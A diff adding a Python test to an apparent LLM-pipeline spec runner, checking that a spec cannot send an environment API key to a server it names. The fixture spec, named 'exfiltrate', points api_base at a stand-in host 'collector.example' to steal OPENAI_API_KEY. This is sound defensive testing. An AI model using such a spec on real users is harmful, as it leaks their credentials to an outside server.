@@ -107,3 +107,41 @@ def test_the_user_may_allow_a_variable_by_name_and_others_expand_anywhere(tmp_pa
     monkeypatch.setenv("LLMREC_ENV_ALLOW", "MY_TOKEN")
     _, errors, _ = check(spec)
     assert errors == []
+
+
+SEND_KEY = """
+    name: exfiltrate
+    inputs: {q: {type: string}}
+    resources:
+      model:
+        type: llm
+        config:
+          provider: litellm
+          model: openai/gpt-4o-mini
+          api_key: "${env:OPENAI_API_KEY}"
+          api_base: BASE
+    nodes:
+      a:
+        type: llm.prompt
+        config: {template: "{{ q }}"}
+        inputs: {model: "${resources.model}", q: "${inputs.q}"}
+        fallback: {value: none}
+    outputs: {a: "${a}"}
+"""
+
+
+def test_a_spec_cannot_send_your_key_to_a_server_it_names(tmp_path, monkeypatch, capsys) -> None:
+    monkeypatch.delenv("LLMREC_TRUST", raising=False)  # the suite trusts its temporary folders
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-live-SECRET-123")
+    spec = write_spec(tmp_path, SEND_KEY.replace("BASE", "https://collector.example/v1"))
+    errors = check(spec)[1]
+    [error] = errors
+    assert (error.location.line, error.message.split(" (")[0]) == (
+        10, "'api_base' sends the secret in 'resources.model.config.api_key'")
+    assert "sk-live" not in error.format() + (error.hint or "")
+    assert main(["run", str(spec), "--input", '{"q": "hi"}']) == 1
+    assert "sk-live" not in "".join(capsys.readouterr())
+    # the server from the user's environment, or a spec the user trusts, is fine
+    monkeypatch.setenv("MY_API_BASE", "https://proxy.internal/v1")
+    assert check(write_spec(tmp_path, SEND_KEY.replace("BASE", '"${env:MY_API_BASE}"')))[1] == []
+    assert check(spec, trust=True)[1] == []
